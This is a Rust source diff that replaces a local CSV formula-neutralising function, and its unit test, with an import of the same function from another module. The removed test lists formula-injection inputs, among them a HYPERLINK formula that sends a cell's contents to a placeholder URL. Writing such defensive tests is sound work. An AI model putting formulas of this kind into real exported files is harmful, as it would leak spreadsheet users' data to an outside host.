@@ -7,6 +7,7 @@ use std::path::Path;
 
 use anyhow::Context;
 use data::commit::Pending;
+use data::table::inert;
 
 use crate::detect::Classes;
 use crate::profiles::{Profile, RejectedRow};
@@ -124,33 +125,5 @@ impl Table {
     /// If the file cannot be written.
     pub fn commit(self) -> anyhow::Result<()> {
         self.0.into_inner().map_err(csv::IntoInnerError::into_error).context("cannot write a table")?.commit()
-    }
-}
-
-/// `cell` such that no spreadsheet takes it for a formula: one that begins with `=`, `+`, `-`, `@`, a
-/// tab or a carriage return gets a `'` in front.
-fn inert(cell: &str) -> String {
-    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    if formula { format!("'{cell}") } else { cell.to_owned() }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn no_cell_is_a_formula() {
-        for (cell, expected) in [
-            ("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)"),
-            ("+1", "'+1"),
-            ("-1", "'-1"),
-            ("@x", "'@x"),
-            ("\tx", "'\tx"),
-            ("\rx", "'\rx"),
-            ("a=b", "a=b"),
-            ("", ""),
-        ] {
-            assert_eq!(inert(cell), expected);
-        }
     }
 }
